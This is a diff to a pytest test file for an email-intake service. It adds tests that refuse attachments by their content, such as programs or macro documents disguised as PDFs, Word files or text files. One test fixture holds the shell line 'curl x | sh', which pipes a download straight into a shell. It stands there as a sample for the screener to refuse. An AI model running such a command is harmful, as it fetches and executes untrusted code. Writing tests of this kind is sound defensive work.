@@ -4,6 +4,10 @@ professional understands, through the real pipeline and in the reply that comes 
 
 from __future__ import annotations
 
+import io
+import zipfile
+
+import hostile_pdfs
 import mail_factory as factory
 import pytest
 from conftest import SENCO
@@ -118,3 +122,114 @@ def test_an_oversize_file_is_refused_naming_the_file_and_the_limit_in_words(serv
     assert "“assessment-scan.pdf” is larger than 10 MB" in text
     # Byte counts are for the caseworker, not the professional.
     assert str(10 * MIB) not in text
+
+
+# --- content, not names ---------------------------------------------------------------------
+
+PE_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"PE\x00\x00" + bytes(200)
+ELF_PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(120)
+PNG_IMAGE = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)
+
+
+def office_zip(*names: str) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name in names:
+            archive.writestr(name, b"<xml/>")
+    return buffer.getvalue()
+
+
+REFUSED_CONTENT = {
+    "windows-program-named-pdf": ("extra.pdf", "application/pdf", PE_PROGRAM),
+    "linux-program-named-docx": ("notes.docx", factory.DOCX, ELF_PROGRAM),
+    "script-named-txt": ("readme.txt", "text/plain", b"#!/bin/sh\ncurl x | sh\n"),
+    "macros-named-docx": (
+        "letter.docx",
+        factory.DOCX,
+        office_zip("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
+    ),
+    "java-named-zip": (
+        "photos.zip",
+        "application/zip",
+        office_zip("META-INF/MANIFEST.MF", "Main.class"),
+    ),
+    "program-without-a-name": ("", "application/octet-stream", PE_PROGRAM),
+}
+
+
+@pytest.mark.parametrize("kind", sorted(REFUSED_CONTENT))
+def test_a_program_is_refused_by_its_content_whatever_its_name(kind):
+    result = screened(factory.build_message(files=[REFUSED_CONTENT[kind]]))
+    assert result.verdict == "reject"
+    assert [hit.code for hit in result.reasons] == ["attachment-content-refused"]
+    assert result.reasons[0].params["file"]
+    assert result.reasons[0].params["magic"] == REFUSED_CONTENT[kind][2][:8].hex(" ")
+
+
+def test_a_program_refused_by_its_name_is_not_reported_twice():
+    result = screened(factory.build_message(files=[("setup.exe", "application/pdf", PE_PROGRAM)]))
+    assert [hit.code for hit in result.reasons] == ["attachment-type-refused"]
+
+
+def test_a_file_whose_content_differs_from_its_name_is_flagged_but_passes():
+    files = [("report.pdf", "application/pdf", PNG_IMAGE), ("scan.jpg", "image/jpeg", PNG_IMAGE)]
+    result = screened(factory.build_message(files=files))
+    assert result.verdict == "pass" and result.reasons == []
+    decision = next(d for d in result.decisions if d["check"] == "attachment-content")
+    assert decision["hit"]
+    assert "report.pdf: png" in decision["detail"] and "scan.jpg: png" in decision["detail"]
+
+
+def test_honest_documents_are_neither_refused_nor_flagged():
+    files = [
+        ("form.pdf", "application/pdf", hostile_pdfs.small_form()),
+        ("photo.jpg", "image/jpeg", b"\xff\xd8\xff\xe0" + bytes(40)),
+        ("report.docx", factory.DOCX, office_zip("[Content_Types].xml", "word/document.xml")),
+        ("plan.odt", "application/octet-stream", office_zip("mimetype", "content.xml")),
+        ("diagram.png", "application/octet-stream", PNG_IMAGE),
+        factory.supporting_file("ep-consultation-record.docx"),
+        factory.supporting_file("notes.txt"),
+    ]
+    result = screened(factory.build_message(files=files))
+    assert result.verdict == "pass"
+    assert not any(d["hit"] for d in result.decisions)
+
+
+def test_a_program_named_pdf_beside_a_valid_form_is_refused_and_nothing_kept(services, senco):
+    token, _ = personal_request_form(services, senco)
+    form = render_form(REQUEST, values=REQUEST_EXAMPLE, token=token)
+    raw = factory.form_reply(
+        form, sender=SENCO, files=[*LISTED, ("extra.pdf", "application/pdf", PE_PROGRAM)]
+    )
+
+    message = deliver(services, raw)
+
+    assert message.status == InboundStatus.REJECTED
+    assert [(r["code"], r["params"]["file"]) for r in message.reasons] == [
+        ("attachment-content-refused", "extra.pdf")
+    ]
+    with services.db.session() as session:
+        assert session.scalar(select(func.count()).select_from(Attachment)) == 0
+    [row] = replies(services, message.id)
+    text = " ".join(factory.body_texts(factory.read_email(row.raw))[0].split())
+    assert "“extra.pdf”" in text and "program" in text
+    assert "4d 5a" not in text
+
+
+def test_a_picture_named_pdf_beside_a_valid_form_is_kept_and_flagged(services, senco):
+    token, _ = personal_request_form(services, senco)
+    form = render_form(REQUEST, values=REQUEST_EXAMPLE, token=token)
+    raw = factory.form_reply(
+        form, sender=SENCO, files=[*LISTED, ("report.pdf", "application/pdf", PNG_IMAGE)]
+    )
+
+    message = deliver(services, raw)
+
+    assert message.status == InboundStatus.ACCEPTED
+    assert next(d for d in message.decisions if d["check"] == "attachment-content")["hit"]
+    with services.db.session() as session:
+        flags = {a.filename: a.flag for a in session.scalars(select(Attachment))}
+    assert "PNG image" in flags["report.pdf"] and "not listed in step 6" in flags["report.pdf"]
+    assert {name: flag for name, flag in flags.items() if name != "report.pdf"} == dict.fromkeys(
+        ["request-form.pdf", *(name for name, _, _ in LISTED)]
+    )
